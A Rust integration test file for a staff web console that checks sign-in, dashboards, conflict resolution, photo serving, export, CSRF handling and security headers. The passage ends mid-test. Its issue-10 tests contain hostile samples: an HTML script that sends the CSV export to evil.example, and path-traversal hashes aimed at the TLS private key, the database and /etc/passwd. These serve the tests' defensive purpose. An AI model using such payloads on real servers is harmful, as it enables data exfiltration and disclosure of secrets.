//! Issue 5: the staff console in a real headless Chromium (Debian's `chromium`), driven over the
//! DevTools protocol, against a real server (HTTPS, self-signed certificate) holding the
//! committed fixtures and one real conflict: sign in, dashboard, filter, open the record, resolve
//! the conflict, download an export, screenshot. Plus access rules through the router.

use std::collections::HashMap;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::http::{Request, StatusCode};
use sanjin_core::{Author, Edit, RecordDoc};
use sanjin_server::{AppState, Role, ServerData, app};
use serde_json::json;
use tower::ServiceExt;

const STAFF: &str = "office-01";
const STAFF_PASSWORD: &str = "console-pass-01";
const LEADER_PASSWORD: &str = "leader-pass-01";

/// A data folder with the fixtures, a staff account, console passwords, and one visit whose
/// title two phones changed at once. Returns the folder, the conflicted visit's id and its group.
fn data_folder() -> (tempfile::TempDir, String, String, String) {
    let fx = common::fixtures();
    let (tmp, mut data) = common::console::fixture_data(STAFF, STAFF_PASSWORD);
    // A visit of group-01 in May 2025 edited on two phones.
    let visit = fx
        .visits
        .iter()
        .find(|r| matches!(&r.data, sanjin_core::RecordData::Visit(v) if v.group == "group-01" && v.start.date().to_string().starts_with("2025-05")))
        .unwrap();
    let leader = fx.leader_of("group-01").unwrap().to_string();
    sanjin_server::console::set_password(&mut data, &leader, LEADER_PASSWORD).unwrap();
    let mut a = visit.to_doc().unwrap();
    let mut b = RecordDoc::load(&a.save()).unwrap();
    let pa = Author::new("member-0001", "phone-a", &[0xa1; 16]).unwrap();
    let pb = Author::new("member-0003", "phone-b", &[0xb2; 16]).unwrap();
    a.edit(
        &pa,
        1_747_900_000_000,
        &[Edit::Set {
            field: "title".into(),
            value: json!("新华村垃圾清运座谈"),
        }],
    )
    .unwrap();
    b.edit(
        &pb,
        1_747_900_000_500,
        &[Edit::Set {
            field: "title".into(),
            value: json!("新华村人居环境座谈"),
        }],
    )
    .unwrap();
    a.merge(&mut b).unwrap();
    assert_eq!(a.view().unwrap().conflicts.len(), 1);
    // Two photos on the same visit (issue 5 with photos): the first one's original has reached
    // the server's blob folder, the second's has not.
    for (i, caption) in ["村口座谈", "入户走访"].into_iter().enumerate() {
        let original = sanjin_media::testing::jpeg(
            &sanjin_media::testing::photo(640, 480, 11 + i as u64, 6),
            85,
        );
        let p = sanjin_media::process(&original, &sanjin_media::Limits::default()).unwrap();
        let photo = sanjin_core::domain::PhotoRef {
            hash: p.hash.clone(),
            caption: caption.into(),
            taken_at: chrono::NaiveDateTime::parse_from_str(
                "2025-05-20 09:41:00",
                "%Y-%m-%d %H:%M:%S",
            )
            .ok(),
            gps: None,
            bytes: original.len() as u64,
            width: p.width,
            height: p.height,
            mime: "image/jpeg".into(),
        };
        a.attach_photo(&pa, 1_747_900_001_000 + i as i64, &photo, &p.thumbnail)
            .unwrap();
        if i == 0 {
            // Issue 10: an original is served only to readers whose scope proved possession
            // of it; the operator's import stands for group-01's upload.
            let h = data.import_blob(&original, Some("group-01")).unwrap();
            assert_eq!(h.to_hex(), p.hash);
        }
    }
    data.import_docs(&mut [a]).unwrap();
    (tmp, visit.id.clone(), "group-01".into(), leader)
}

// ------------------------------------------------------------------ a small DevTools client

mod browser;
use browser::Chromium;
use common::console::get;

#[test]
fn issue_5_console_in_headless_chromium() {
    let (tmp, visit, _group, _leader) = data_folder();
    let (rt, running, base) = common::console::serve_folder(tmp.path());
    assert!(base.starts_with("https://"));
    let downloads = tempfile::tempdir().unwrap();
    let mut c = Chromium::start(downloads.path());
    let shots = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));

    // Signed out: the console sends the browser to the sign-in page.
    c.goto(&format!("{base}/console/dashboard"));
    c.wait("location.pathname === '/console/login' && document.getElementById('signin')");
    // A wrong password is refused, in Chinese.
    c.eval(&format!(
        "document.getElementById('account').value = '{STAFF}'; document.getElementById('password').value = 'wrong-password'; document.getElementById('signin').click(); true"
    ));
    c.wait("document.body.innerText.includes('账号或密码不对')");
    c.eval(&format!(
        "document.getElementById('account').value = '{STAFF}'; document.getElementById('password').value = '{STAFF_PASSWORD}'; document.getElementById('signin').click(); true"
    ));
    c.wait("location.pathname === '/console/dashboard' && document.getElementById('stats')");
    // The cookie is HttpOnly: not visible to the page.
    assert_eq!(c.eval("document.cookie"), json!(""));

    // Dashboard of Q2 2025: the visits the store's index counts for that quarter.
    c.goto(&format!("{base}/console/dashboard?q=2025-2"));
    c.wait("document.getElementById('stat-visits')");
    let expected: i64 = {
        let conn = rusqlite::Connection::open(tmp.path().join("sanjin.sqlite")).unwrap();
        conn.query_row(
            "SELECT COUNT(*) FROM idx_visit WHERE deleted = 0 AND date BETWEEN '2025-04-01' AND '2025-06-30'",
            [],
            |r| r.get(0),
        )
        .unwrap()
    };
    assert_eq!(
        c.eval("document.getElementById('stat-visits').innerText"),
        json!(expected.to_string())
    );
    assert_eq!(
        c.eval("document.querySelectorAll('#six-ones tr').length"),
        json!(13),
        "12 groups + header"
    );
    c.screenshot(&shots.join("console-dashboard.png"));
    // Readable on a phone: at 390 px wide nothing pushes the page sideways (wide tables scroll
    // inside their cards).
    c.page(
        "Emulation.setDeviceMetricsOverride",
        json!({"width": 390, "height": 844, "deviceScaleFactor": 2, "mobile": true}),
    );
    c.goto(&format!("{base}/console/dashboard?q=2025-2"));
    c.wait("document.getElementById('stat-visits')");
    assert_eq!(
        c.eval("document.documentElement.scrollWidth <= window.innerWidth"),
        json!(true),
        "the dashboard fits a phone's width"
    );
    c.screenshot(&shots.join("console-dashboard-phone.png"));
    c.page("Emulation.clearDeviceMetricsOverride", json!({}));

    // Filter: group-01's visits with conflicts.
    c.goto(&format!("{base}/console/records?kind=visit"));
    c.eval("document.getElementById('f-group').value = 'group-01'; document.getElementById('f-conflicts').value = '1'; document.getElementById('f-submit').click(); true");
    c.wait("location.search.includes('conflicts=1') && document.getElementById('total')");
    assert_eq!(
        c.eval("document.getElementById('total').innerText"),
        json!("共 1 条")
    );

    // Open the record.
    c.eval("document.querySelector('#records a').click(); true");
    c.wait("document.getElementById('record-id')");
    assert_eq!(
        c.eval("document.getElementById('record-id').innerText"),
        json!(visit)
    );
    let text = c.eval("document.getElementById('conflicts').innerText");
    assert!(
        text.as_str().unwrap().contains("新华村垃圾清运座谈"),
        "{text}"
    );
    assert!(
        text.as_str().unwrap().contains("新华村人居环境座谈"),
        "{text}"
    );
    // Its photos (issue 5): thumbnails served from the record's document, loaded by the
    // browser; captions and taking times; a link to the original the server holds, and a note
    // for the one that has not been uploaded yet.
    c.wait(
        "[...document.querySelectorAll('#photos img')].length === 2 && [...document.querySelectorAll('#photos img')].every(i => i.complete)",
    );
    assert_eq!(
        c.eval("[...document.querySelectorAll('#photos img')].map(i => i.naturalWidth > 0 && i.naturalHeight > 0)"),
        json!([true, true]),
        "both thumbnails are displayed"
    );
    let photos = c.eval("document.getElementById('photos').innerText");
    let photos = photos.as_str().unwrap();
    assert!(
        photos.contains("村口座谈") && photos.contains("入户走访"),
        "{photos}"
    );
    assert!(photos.contains("拍摄于 2025-05-20 09:41"), "{photos}");
    assert!(
        photos.contains("查看原图") && photos.contains("原图尚未上传"),
        "{photos}"
    );
    assert_eq!(
        c.eval("document.querySelectorAll('#photos a.original').length"),
        json!(1)
    );
    // The original opens in the browser: a JPEG of the original's size. (Loaded as an image:
    // the console's policy allows no script to fetch, issue 10.)
    let href = c.eval("document.querySelector('#photos a.original').href");
    let (width, len) = {
        let js = format!(
            "new Promise(done => {{ const i = new Image(); i.onload = () => done([i.naturalWidth, performance.getEntriesByName(i.src)[0].decodedBodySize]); i.onerror = () => done([0, 0]); i.src = {href}; }})"
        );
        let v = c.eval(&js);
        (v[0].as_u64().unwrap(), v[1].as_u64().unwrap())
    };
    assert_eq!(width, 640, "the original's width, not the thumbnail's");
    assert!(len > 10_000, "the original, not a thumbnail: {len} bytes");
    c.screenshot(&shots.join("console-record.png"));

    // Resolve: choose 新华村人居环境座谈.
    let seq_before = rt
        .block_on(running.state().with_data(|d| d.max_seq().unwrap()))
        .unwrap();
    c.eval(
        "const r = [...document.querySelectorAll('#conflicts input[type=radio]')].find(i => i.closest('li').innerText.includes('人居环境')); r.checked = true; document.getElementById('resolve-0').click(); true",
    );
    c.wait("document.getElementById('resolved') && document.getElementById('no-conflicts')");
    assert!(
        c.eval("document.getElementById('history').innerText")
            .as_str()
            .unwrap()
            .contains("裁定冲突")
    );
    // The resolution is a real change: in the store, in the change log (devices receive it),
    // made under the server's own actor and naming the member who resolved.
    let id = visit.clone();
    let (title, conflicts, seq_after, logged, server_actor_wrote) = rt
        .block_on(running.state().with_data(move |d| {
            let mut doc = d.store().load(&id).unwrap();
            let view = doc.view().unwrap();
            let title = match &view.data {
                sanjin_core::RecordData::Visit(v) => v.title.clone(),
                _ => unreachable!(),
            };
            let logged: i64 = rusqlite::Connection::open(d.dir().join(sanjin_server::DB_FILE))
                .unwrap()
                .query_row(
                    "SELECT COUNT(*) FROM change_log WHERE doc_id = ?1 AND seq > ?2",
                    rusqlite::params![id, seq_before as i64],
                    |r| r.get(0),
                )
                .unwrap();
            let server = hex::encode(&d.store().identity().actor);
            let wrote = doc.changes().iter().any(|c| {
                c.actor_id().to_hex_string() == server
                    && c.message()
                        .is_some_and(|m| m.contains("resolve") && m.contains(STAFF))
            });
            (
                title,
                view.conflicts.len(),
                d.max_seq().unwrap(),
                logged,
                wrote,
            )
        }))
        .unwrap();
    assert_eq!(title, "新华村人居环境座谈");
    assert_eq!(conflicts, 0);
    assert!(seq_after > seq_before);
    assert_eq!(logged, 1, "one change-log entry for the resolution");
    assert!(
        server_actor_wrote,
        "the server's actor made the change, naming the staff member"
    );

    // Download the year's ledger as Excel.
    c.goto(&format!(
        "{base}/console/export?from=2025-01-01&to=2025-12-31"
    ));
    c.eval("document.getElementById('export-xlsx').click(); true");
    let started = Instant::now();
    let file = loop {
        let done: Vec<PathBuf> = std::fs::read_dir(downloads.path())
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|e| e == "xlsx"))
            .collect();
        if let Some(f) = done.first() {
            break f.clone();
        }
        assert!(started.elapsed() < Duration::from_secs(60), "no download");
        std::thread::sleep(Duration::from_millis(200));
    };
    let name = file.file_name().unwrap().to_string_lossy().to_string();
    assert!(name.contains("三进台账_2025-01-01_2025-12-31"), "{name}");
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&file).unwrap();
    assert!(book.sheet_names().contains(&"活动台账".to_string()));
    let acts = book.worksheet_range("活动台账").unwrap();
    assert_eq!(acts.height(), 1201, "header + 1200 visits");
    let row = acts
        .rows()
        .find(|r| r[0].to_string() == visit)
        .expect("the resolved visit is in the export");
    assert!(
        row.iter()
            .any(|c| matches!(c, calamine::Data::String(s) if s == "新华村人居环境座谈"))
    );
    c.screenshot(&shots.join("console-export.png"));
    c.assert_no_csp_violations("on the export page");
    drop(c);
    rt.block_on(running.shutdown()).unwrap();
    eprintln!("screenshots in {}", shots.display());
}

// ------------------------------------------------------------------ access through the router

async fn send(
    app: &axum::Router,
    req: Request<Body>,
) -> (StatusCode, HashMap<String, String>, String) {
    let r = common::console::send(app, req).await;
    let text = r.text();
    (r.status, r.headers, text)
}

fn post(path: &str, body: &str, cookie: Option<&str>) -> Request<Body> {
    let mut b = Request::post(path).header("content-type", "application/x-www-form-urlencoded");
    if let Some(c) = cookie {
        b = b.header("cookie", c);
    }
    b.body(Body::from(body.to_string())).unwrap()
}

async fn sign_in(app: &axum::Router, who: &str, password: &str) -> Option<String> {
    let (status, headers, _) = send(
        app,
        post(
            "/console/login",
            &format!("account={who}&password={password}"),
            None,
        ),
    )
    .await;
    if status != StatusCode::SEE_OTHER {
        return None;
    }
    let cookie = headers.get("set-cookie").unwrap();
    assert!(
        cookie.contains("HttpOnly")
            && cookie.contains("SameSite=Strict")
            && cookie.contains("Secure"),
        "{cookie}"
    );
    Some(cookie.split(';').next().unwrap().to_string())
}

#[tokio::test]
async fn issue_5_console_access_by_role() {
    let (tmp, visit, group, leader) = data_folder();
    let mut data = ServerData::open(tmp.path()).unwrap();
    // A member cannot even get a password; an unknown account cannot sign in.
    assert!(
        sanjin_server::console::set_password(&mut data, "member-0005", "member-pass-1").is_err()
    );
    // An opinion note of the group that two people moved on at once (accepted on one phone,
    // returned on another): a contested status.
    let fx = common::fixtures();
    let note = fx
        .opinions
        .iter()
        .find(|r| {
            matches!(&r.data, sanjin_core::RecordData::Opinion(o) if o.group == group)
                && r.events.len() == 1
                && r.events[0].event == sanjin_core::workflow::EventType::Submit
        })
        .expect("a submitted note of the group");
    {
        let mut a = note.to_doc().unwrap();
        let mut b = RecordDoc::load(&a.save()).unwrap();
        let pa = Author::new(&leader, "phone-a", &[0xa1; 16]).unwrap();
        let pb = Author::new(&leader, "phone-b", &[0xb2; 16]).unwrap();
        a.transition(
            &pa,
            1_748_000_000_000,
            sanjin_core::workflow::EventType::Accept,
            None,
        )
        .unwrap();
        b.transition(
            &pb,
            1_748_000_000_001,
            sanjin_core::workflow::EventType::Return,
            None,
        )
        .unwrap();
        a.merge(&mut b).unwrap();
        assert!(
            a.view()
                .unwrap()
                .conflicts
                .iter()
                .any(|c| c.field == "status")
        );
        data.import_docs(&mut [a]).unwrap();
    }
    let hash = data.store().load(&visit).unwrap().photos().unwrap()[0]
        .hash
        .clone();
    let app = app(AppState::new(data));
    assert!(
        sign_in(&app, "member-0005", "member-pass-1")
            .await
            .is_none()
    );
    assert!(sign_in(&app, "nobody", "whatever-1").await.is_none());

    let cookie = sign_in(&app, &leader, LEADER_PASSWORD).await.unwrap();
    // The leader's lists are the group's; another group is refused.
    let (s, _, body) = send(&app, get("/console/records?kind=visit", &cookie)).await;
    assert_eq!(s, StatusCode::OK);
    assert!(!body.contains("f-group"), "no group choice for a leader");
    let (s, _, _) = send(
        &app,
        get("/console/records?kind=visit&group=group-02", &cookie),
    )
    .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, _, body) = send(&app, get("/console/dashboard?q=2025-2", &cookie)).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(
        body.matches("<tr><td><a href=\"/console/records?kind=visit&amp;group=")
            .count(),
        1,
        "one group's 六个一"
    );
    // A record of another group: refused.
    let fx = common::fixtures();
    let other = fx
        .visits
        .iter()
        .find(|r| matches!(&r.data, sanjin_core::RecordData::Visit(v) if v.group != group))
        .unwrap();
    let (s, _, _) = send(
        &app,
        get(&format!("/console/records/{}", other.id), &cookie),
    )
    .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    // Photos follow the same scope: the group's thumbnail is served, another group's record's
    // photo route is refused, a hash the record does not reference is not found.
    let (s, h, bytes) = send(
        &app,
        get(
            &format!("/console/records/{visit}/photos/{hash}/thumb"),
            &cookie,
        ),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(h["content-type"], "image/jpeg");
    assert!(!bytes.is_empty());
    let (s, _, _) = send(
        &app,
        get(
            &format!("/console/records/{}/photos/{hash}/thumb", other.id),
            &cookie,
        ),
    )
    .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, _, _) = send(
        &app,
        get(
            &format!("/console/records/{visit}/photos/{}/thumb", "0".repeat(64)),
            &cookie,
        ),
    )
    .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    // The leader's export is the group's; asking for another group is refused.
    let (s, h, bytes) = send(
        &app,
        get(
            "/console/export/file?from=2025-01-01&to=2025-12-31&format=csv",
            &cookie,
        ),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(h["content-type"], "application/zip");
    assert!(h["content-disposition"].starts_with("attachment;"));
    assert!(!bytes.is_empty());
    let (s, _, _) = send(
        &app,
        get(
            "/console/export/file?from=2025-01-01&to=2025-12-31&group=group-02",
            &cookie,
        ),
    )
    .await;
    assert_eq!(s, StatusCode::FORBIDDEN);

    // A POST without the session's CSRF token, or from another origin, changes nothing.
    let (s, _, _) = send(
        &app,
        post(
            &format!("/console/records/{visit}/resolve"),
            "field=title&value=%22x%22",
            Some(&cookie),
        ),
    )
    .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let mut req = post(
        &format!("/console/records/{visit}/resolve"),
        "field=title&value=%22x%22&csrf=00",
        Some(&cookie),
    );
    req.headers_mut()
        .insert("origin", "https://evil.example".parse().unwrap());
    req.headers_mut()
        .insert("host", "localhost".parse().unwrap());
    let (s, _, _) = send(&app, req).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    // With the token from the page, the leader resolves the group's conflict.
    let (_, _, page) = send(&app, get(&format!("/console/records/{visit}"), &cookie)).await;
    let csrf = page
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_string();
    let (s, h, _) = send(
        &app,
        post(
            &format!("/console/records/{visit}/resolve"),
            &format!("field=title&value=%22%E6%96%B0%22&csrf={csrf}"),
            Some(&cookie),
        ),
    )
    .await;
    assert_eq!(s, StatusCode::SEE_OTHER, "{h:?}");
    let (_, _, page) = send(&app, get(&format!("/console/records/{visit}"), &cookie)).await;
    assert!(page.contains("没有待裁定的冲突"));
    // The contested status is settled the same way: the chosen state becomes the note's.
    let (_, _, page) = send(&app, get(&format!("/console/records/{}", note.id), &cookie)).await;
    assert!(
        page.contains("已采纳") && page.contains("已退回"),
        "both states offered"
    );
    let (s, _, _) = send(
        &app,
        post(
            &format!("/console/records/{}/resolve", note.id),
            &format!("field=status&value=%22accepted%22&csrf={csrf}"),
            Some(&cookie),
        ),
    )
    .await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let (_, _, page) = send(&app, get(&format!("/console/records/{}", note.id), &cookie)).await;
    assert!(page.contains("没有待裁定的冲突"));
    assert!(page.contains("<dt>状态</dt><dd>已采纳"), "the chosen state");
    // Signing out ends the session.
    let (s, _, _) = send(
        &app,
        post("/console/logout", &format!("csrf={csrf}"), Some(&cookie)),
    )
    .await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let (s, h, _) = send(&app, get("/console/dashboard", &cookie)).await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    assert_eq!(h["location"], "/console/login");
}

/// Issue 11: query strings and forms are read by axum's extractors; what they refuse is a
/// console page in Chinese that says what to do (with axum's status, the console's security
/// headers, and the signed-in account's header line), never axum's plain-text rejection.
#[tokio::test]
async fn issue11_refused_queries_and_forms_are_console_pages() {
    let (tmp, visit, _, _) = data_folder();
    let app = app(AppState::new(ServerData::open(tmp.path()).unwrap()));
    let cookie = sign_in(&app, STAFF, STAFF_PASSWORD).await.unwrap();
    let with = |mut req: Request<Body>, ty: Option<&str>| {
        req.headers_mut().remove("content-type");
        if let Some(t) = ty {
            req.headers_mut().insert("content-type", t.parse().unwrap());
        }
        req
    };
    for (what, req, status, needle, signed_in) in [
        (
            "a filter given twice",
            get("/console/records?kind=visit&kind=plan", &cookie),
            StatusCode::BAD_REQUEST,
            "网址中的参数不对",
            true,
        ),
        (
            "a quarter given twice",
            get("/console/dashboard?q=2025-1&q=2025-2", &cookie),
            StatusCode::BAD_REQUEST,
            "请从工作台页面重新进入",
            true,
        ),
        (
            "a resolution sent as JSON",
            with(
                post(
                    &format!("/console/records/{visit}/resolve"),
                    "{}",
                    Some(&cookie),
                ),
                Some("application/json"),
            ),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "表单提交方式不对，请从工作台页面提交",
            true,
        ),
        (
            "a sign-out over the form limit",
            post(
                "/console/logout",
                &format!("csrf={}", "0".repeat(2 << 20)),
                Some(&cookie),
            ),
            StatusCode::PAYLOAD_TOO_LARGE,
            "提交的内容过多",
            true,
        ),
        (
            "a sign-in without a content type",
            with(
                post(
                    "/console/login",
                    &format!("account={STAFF}&password={STAFF_PASSWORD}"),
                    None,
                ),
                None,
            ),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "请从工作台页面提交",
            false,
        ),
        (
            "a sign-in with the account twice",
            post(
                "/console/login",
                &format!("account={STAFF}&account={STAFF}&password={STAFF_PASSWORD}"),
                None,
            ),
            StatusCode::UNPROCESSABLE_ENTITY,
            "表单内容不对",
            false,
        ),
    ] {
        let (s, h, body) = send(&app, req).await;
        assert_eq!(s, status, "{what}");
        assert_eq!(h["content-type"], "text/html; charset=utf-8", "{what}");
        assert_eq!(
            h["content-security-policy"],
            sanjin_server::console::CONTENT_SECURITY_POLICY,
            "{what}"
        );
        assert!(!h.contains_key("set-cookie"), "{what}: nobody signed in");
        assert!(
            body.contains("<div class=\"msg err\">") && body.contains(needle),
            "{what}: {body}"
        );
        assert_eq!(
            body.contains("王秘书（机关工作人员）"),
            signed_in,
            "{what}: {body}"
        );
    }
    // Unknown parameters are ignored and an unreadable page number is page 1, as before.
    let (s, _, body) = send(
        &app,
        get("/console/records?kind=visit&page=abc&utm=x", &cookie),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    assert!(body.contains("<span>第 1 / "), "{body}");
}

// ------------------------------------------------------------------ issue 10

mod common;

use common::photos::{self, console_get, console_session};
use common::{Harness, leader_of, members_of};

/// The headers every console response carries (issue 10).
fn assert_security_headers(what: &str, h: &axum::http::HeaderMap) {
    let get = |k: &str| {
        h.get(k)
            .unwrap_or_else(|| panic!("{what}: no {k} header in {h:?}"))
            .to_str()
            .unwrap()
            .to_string()
    };
    let csp = get("content-security-policy");
    assert!(
        csp == sanjin_server::console::CONTENT_SECURITY_POLICY
            || csp == sanjin_server::console::MEDIA_CSP,
        "{what}: {csp}"
    );
    for directive in [
        "default-src 'none'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
        "form-action 'self'",
    ] {
        assert!(csp.contains(directive), "{what}: {csp}");
    }
    assert!(!csp.contains("unsafe"), "{what}: {csp}");
    assert_eq!(get("x-content-type-options"), "nosniff", "{what}");
    assert_eq!(get("x-frame-options"), "DENY", "{what}");
    assert_eq!(
        get("strict-transport-security"),
        "max-age=31536000",
        "{what}"
    );
    assert_eq!(get("referrer-policy"), "no-referrer", "{what}");
}

#[tokio::test]
async fn issue10_text_html_photo_original_is_served_as_an_attachment() {
    let h = Harness::live().await;
    // A "photo" that is an HTML page with a script: on the console's origin it would act with
    // the signed-in staff member's session.
    let page = b"<!doctype html><html><body><script>fetch('/console/export/file?format=csv').then(r => r.blob()).then(b => navigator.sendBeacon('https://evil.example/', b))</script></body></html>".to_vec();
    let member = members_of("group-01")[0].clone();
    let dev = h.device(&member).await;
    let hash = photos::upload(&h, &dev, &page).await;
    // The record claiming it is text/html (its thumbnail HTML too), placed by an import: data
    // from before the checks on a push.
    let element =
        json!({"hash": hash, "caption": "现场照片", "mime": "text/html", "bytes": page.len()});
    let doc = photos::visit_with_raw_photos(
        "group-01",
        &member,
        &[(hash.clone(), element, Some(page.clone()))],
    );
    let id = doc.id().to_string();
    photos::place(&h, vec![doc]).await;
    for who in ["office-01".to_string(), leader_of("group-01")] {
        let cookie = console_session(&h, &who).await;
        let record = console_get(&h, &format!("/console/records/{id}"), &cookie).await;
        assert_eq!(record.status, StatusCode::OK, "{who}");
        assert!(
            String::from_utf8_lossy(&record.body).contains("class=\"original\""),
            "{who}: the original is held for this reader"
        );
        for part in ["", "/thumb"] {
            let r = console_get(
                &h,
                &format!("/console/records/{id}/photos/{hash}{part}"),
                &cookie,
            )
            .await;
            let what = format!("{who} {part}");
            assert_eq!(r.status, StatusCode::OK, "{what}");
            assert_eq!(
                r.headers["content-type"], "application/octet-stream",
                "{what}: never the type the record claims"
            );
            let disposition = r.headers["content-disposition"].to_str().unwrap();
            assert!(
                disposition.starts_with("attachment;"),
                "{what}: {disposition}"
            );
            assert!(disposition.contains(".bin"), "{what}: {disposition}");
            assert_security_headers(&what, &r.headers);
            assert!(
                r.headers["content-security-policy"]
                    .to_str()
                    .unwrap()
                    .ends_with("sandbox"),
                "{what}"
            );
            assert_eq!(&r.body[..], &page[..], "{what}: the bytes, as a download");
        }
    }
    // The device route too: opaque bytes, a download, never sniffed.
    let r = common::photos::put_blob(&h, &dev, &hash, 0, 0, b"").await;
    assert_eq!(r.json()["state"], "complete");
    let r = h
        .get(
            &format!("/v1/records/{id}/blobs/{hash}"),
            Some(&dev.bearer()),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(r.headers["content-type"], "application/octet-stream");
    assert_eq!(r.headers["x-content-type-options"], "nosniff");
    assert!(
        r.headers["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment")
    );
}

/// Percent-encodes a path segment (slashes included).
fn segment(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            b => format!("%{b:02X}"),
        })
        .collect()
}

#[tokio::test]
async fn issue10_path_like_hash_is_refused_and_never_reads_outside_blobs() {
    let h = Harness::live().await;
    let data = h.dir.path().join("data");
    // The server's TLS private key (self-signed mode) and its database: what the attack read.
    let key_path = data.join("tls").join("key.pem");
    let key = std::fs::read_to_string(&key_path).unwrap();
    assert!(key.contains("PRIVATE KEY"));
    let hostile = [
        key_path.to_str().unwrap().to_string(),
        "./../tls/key.pem".to_string(),
        "./../sanjin.sqlite".to_string(),
        "../../../../../../../etc/passwd".to_string(),
        format!("{}/../../tls/key.pem", "a".repeat(40)),
        "/etc/ssl/private/ssl-cert-snakeoil.key".to_string(),
    ];
    let member = members_of("group-01")[0].clone();
    let dev = h.device(&member).await;
    // One genuine photo, uploaded by the group, beside the hostile references.
    let good = photos::photo(201);
    photos::upload(&h, &dev, &good.original).await;
    let mut refs: Vec<(String, serde_json::Value, Option<Vec<u8>>)> = hostile
        .iter()
        .map(|p| {
            (
                p.clone(),
                json!({"hash": p, "mime": "image/jpeg", "caption": "路径"}),
                Some(good.thumbnail.clone()),
            )
        })
        .collect();
    refs.push((
        good.hash.clone(),
        serde_json::to_value(good.reference("真照片")).unwrap(),
        Some(good.thumbnail.clone()),
    ));
    let doc = photos::visit_with_raw_photos("group-01", &member, &refs);
    let id = doc.id().to_string();
    photos::place(&h, vec![doc]).await;

    let staff = console_session(&h, "office-01").await;
    let page = console_get(&h, &format!("/console/records/{id}"), &staff).await;
    assert_eq!(page.status, StatusCode::OK);
    let html = String::from_utf8_lossy(&page.body).to_string();
    assert_eq!(
        html.matches("照片引用无效").count(),
        hostile.len(),
        "each hostile reference is shown as invalid"
    );
    assert_eq!(
        html.matches("class=\"original\"").count(),
        1,
        "only the real photo links"
    );
    for p in &hostile {
        assert!(!html.contains(&format!("/photos/{}", segment(p))), "{p}");
    }
    let secrets = |body: &[u8]| {
        let t = String::from_utf8_lossy(body);
        t.contains("PRIVATE KEY") || t.contains("SQLite format") || t.contains("root:")
    };
    for p in &hostile {
        for part in ["", "/thumb"] {
            let path = format!("/console/records/{id}/photos/{}{part}", segment(p));
            let r = console_get(&h, &path, &staff).await;
            assert_eq!(r.status, StatusCode::NOT_FOUND, "{path}");
            assert!(!secrets(&r.body), "{path}");
            assert_security_headers(&path, &r.headers);
        }
        let path = format!("/v1/records/{id}/blobs/{}", segment(p));
        let r = h.get(&path, Some(&dev.bearer())).await;
        assert_eq!(
            (r.status, r.error()),
            (StatusCode::BAD_REQUEST, "bad_message".into()),
            "{path}"
        );
        assert!(!secrets(&r.body), "{path}");
        let r = h
            .get(&format!("/v1/blobs/{}", segment(p)), Some(&dev.bearer()))
            .await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{p}");
    }
    // Unencoded, the path is no console page at all.
    let r = console_get(
        &h,
        &format!("/console/records/{id}/photos/{}", key_path.display()),
        &staff,
    )
    .await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    assert!(!secrets(&r.body));
    assert_security_headers("an unknown console path", &r.headers);
    // The genuine photo still opens.
    let r = console_get(
        &h,
        &format!("/console/records/{id}/photos/{}", good.hash),
        &staff,
    )
    .await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(r.headers["content-type"], "image/jpeg");
    assert_eq!(&r.body[..], &good.original[..]);
}

#[tokio::test]
async fn issue10_every_console_response_carries_the_security_headers() {
    let h = Harness::live().await;
    let member = members_of("group-01")[0].clone();
    let dev = h.device(&member).await;
    let p = photos::photo(301);
    photos::upload(&h, &dev, &p.original).await;
    let doc = photos::visit_with_raw_photos(
        "group-01",
        &member,
        &[(
            p.hash.clone(),
            serde_json::to_value(p.reference("座谈")).unwrap(),
            Some(p.thumbnail.clone()),
        )],
    );
    let id = doc.id().to_string();
    let other = photos::visit_with_raw_photos("group-02", &members_of("group-02")[0], &[]);
    let other_id = other.id().to_string();
    photos::place(&h, vec![doc, other]).await;
    let staff = console_session(&h, "office-01").await;
    let leader = console_session(&h, &leader_of("group-01")).await;
    let form = |path: &str, body: String, cookie: Option<&str>| {
        let mut b = Request::post(path).header("content-type", "application/x-www-form-urlencoded");
        if let Some(c) = cookie {
            b = b.header("cookie", c);
        }
        b.body(Body::from(body)).unwrap()
    };
    let page = console_get(&h, &format!("/console/records/{id}"), &staff).await;
    let csrf = String::from_utf8_lossy(&page.body)
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_string();
    let mut seen = Vec::new();
    let mut check = |what: &str, r: common::Reply, status: StatusCode| {
        assert_eq!(r.status, status, "{what}");
        assert_security_headers(what, &r.headers);
        seen.push(status.as_u16());
    };
    // Signed out.
    for (path, status) in [
        ("/console", StatusCode::SEE_OTHER),
        ("/console/", StatusCode::SEE_OTHER),
        ("/console/login", StatusCode::OK),
        ("/console/dashboard", StatusCode::SEE_OTHER),
        ("/console/style.css", StatusCode::OK),
        ("/console/no-such-page", StatusCode::NOT_FOUND),
    ] {
        check(path, h.get(path, None).await, status);
    }
